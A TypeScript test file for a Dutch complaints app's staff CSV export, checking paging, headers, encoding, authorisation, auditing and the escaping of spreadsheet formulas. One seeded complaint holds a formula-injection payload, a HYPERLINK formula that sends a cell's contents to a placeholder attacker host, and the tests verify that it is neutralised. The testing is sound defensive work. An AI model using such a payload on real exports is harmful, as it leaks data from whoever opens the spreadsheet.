/**
 * GET /staff/api/complaints.csv on the real app: the same filters as the list, every match (paged
 * through), UTF-8 with BOM, `;`, Dutch headers, formulas neutralised, audited with count and filters.
 */
import http from 'http';
import { csvCell, csvDocument } from '../../src/staff/csvExport';
import { API_TOKEN, API_TOKEN_ENTRY, request, seedComplaint, startApp, type TestApp } from './helpers';

let t: TestApp;
const refs: string[] = [];

function getRaw(pathname: string, token = API_TOKEN): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: Buffer }> {
  return new Promise((resolve, reject) => {
    http
      .get(`${t.base}${pathname}`, { headers: token ? { authorization: `Bearer ${token}` } : {} }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }));
      })
      .on('error', reject);
  });
}

/** rows of a `;` CSV with quotes (enough for this test) */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ';') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  return rows;
}

beforeAll(async () => {
  t = await startApp({ STAFF_API_TOKENS: API_TOKEN_ENTRY });
  for (let i = 0; i < 130; i++) {
    t.clock.now = new Date(Date.UTC(2026, 9, 1) + i * 3_600_000);
    refs.push((await seedComplaint(t.app, { input: { story: `Klacht nummer ${i}: de balie was dicht terwijl de website zei dat hij open was.` } })).reference);
  }
  t.clock.now = new Date('2026-10-10T09:00:00Z');
  refs.push(
    (
      await seedComplaint(t.app, {
        input: {
          route: 'care',
          story: '=HYPERLINK("http://evil.example/?x="&A1;"klik") de thuiszorg kwam drie weken niet; "echt" niet',
          contact: { name: 'Łukasz Şahin-Jansen', phone: '06 12345678', street: 'Dorpsstraat 12', postcode: '1182jr', city: 'Amstelveen', email: null },
        },
      })
    ).reference,
  );
  t.clock.now = new Date('2026-11-24T09:00:00Z');
});

afterAll(async () => {
  await t?.close();
});

test('cells: formulas get a leading quote, separators and quotes are quoted, nothing else changes', () => {
  expect(csvCell('=1+1')).toBe("'=1+1");
  expect(csvCell('+31 20 540 49 11')).toBe("'+31 20 540 49 11");
  expect(csvCell('-2')).toBe("'-2");
  expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
  expect(csvCell('\tx')).toBe("'\tx");
  expect(csvCell('a;b')).toBe('"a;b"');
  expect(csvCell('zei "nee"')).toBe('"zei ""nee"""');
  expect(csvCell('regel 1\nregel 2')).toBe('"regel 1\nregel 2"');
  expect(csvCell('Café Łódź')).toBe('Café Łódź');
  expect(csvCell(null)).toBe('');
  expect(csvCell(12)).toBe('12');
  expect(csvDocument(['A', 'B'], [[1, '=x']])).toBe("\uFEFFA;B\r\n1;'=x\r\n");
});

test('every match of the filters, paged through, newest first; BOM, semicolons, Dutch headers', async () => {
  const r = await getRaw('/staff/api/complaints.csv?status=received');
  expect(r.status).toBe(200);
  expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(r.headers['content-disposition']).toMatch(/^attachment; filename="klachten-\d{4}-\d{2}-\d{2}\.csv"$/);
  expect(r.headers['cache-control']).toBe('no-store');
  expect([...r.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const rows = parse(r.body.toString('utf8').slice(1));
  expect(rows[0]).toEqual([
    'Kenmerk', 'Ontvangen', 'Status', 'Soort', 'Kanaal', 'Taal', 'Naam', 'Categorie', 'Afdeling', 'Toegewezen aan',
    'Klachtbehandelaar', 'Uitkomst', 'Termijn', 'Te laat', 'Afgehandeld', 'Begin van de klacht',
  ]);
  expect(rows).toHaveLength(1 + refs.length); // more than one page of the list (100)
  expect(rows.slice(1).map((x) => x[0]).sort()).toEqual([...refs].sort());
  const first = rows.find((x) => x[0] === refs[0])!;
  expect(first.slice(1, 7)).toEqual(['2026-10-01 02:00', 'ontvangen', 'complaint', 'Chat op de website', 'nl', 'Jan Jansen']);
  expect(first[12]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
  expect(first[13]).toMatch(/^(ja|nee)$/);
});

test('filters as the list takes them; formula injection guarded; Unicode kept; labels in Dutch', async () => {
  const care = refs[refs.length - 1];
  const h = (await t.app.store.handling.get(care))!;
  await t.app.store.handling.apply({ id: h.id, expectedVersion: h.version, at: new Date().toISOString(), actor: 't', set: { category: 'bejegening', department: 'Sociaal Domein' }, event: { kind: 'assignment' } });
  const r = await getRaw('/staff/api/complaints.csv?route=care');
  const text = r.body.toString('utf8');
  const rows = parse(text.slice(1));
  expect(rows).toHaveLength(2);
  const [row] = rows.slice(1);
  expect(row[0]).toBe(refs[refs.length - 1]);
  expect(row[6]).toBe('Łukasz Şahin-Jansen');
  expect(row.slice(7, 9)).toEqual(['Bejegening', 'Sociaal Domein']);
  expect(row[15].startsWith("'=HYPERLINK(")).toBe(true);
  expect(row[15]).toContain('"echt" niet');
  // the raw text: the cell is quoted (it holds ; and "), the formula starts after a quote mark
  expect(text).toContain(`;"'=HYPERLINK(""http://evil.example/`);
  const list = await request(t.base, 'GET', '/staff/api/complaints?route=care', { token: API_TOKEN });
  expect(list.json.items.map((i: { reference: string }) => i.reference)).toEqual([row[0]]);
  const none = parse((await getRaw('/staff/api/complaints.csv?q=onvindbaarwoord')).body.toString('utf8').slice(1));
  expect(none).toHaveLength(1); // the header only
});

test('bad filters: 400 in the one error shape; no token: 401; the export is audited with count and filters, never the search text', async () => {
  const bad = await request(t.base, 'GET', '/staff/api/complaints.csv?status=kapot', { token: API_TOKEN });
  expect(bad.status).toBe(400);
  expect(bad.json).toMatchObject({ error: expect.any(String), message: expect.any(String) });
  expect((await getRaw('/staff/api/complaints.csv', '')).status).toBe(401);
  await getRaw('/staff/api/complaints.csv?route=care&q=thuiszorg');
  const [entry] = await t.app.store.audit.list({ action: 'complaint.export', limit: 1 });
  expect(entry.detail).toEqual({ count: 1, format: 'csv', filters: { route: 'care', q: true } });
  expect(JSON.stringify(entry)).not.toContain('thuiszorg');
  expect(entry.references).toEqual([]);
});
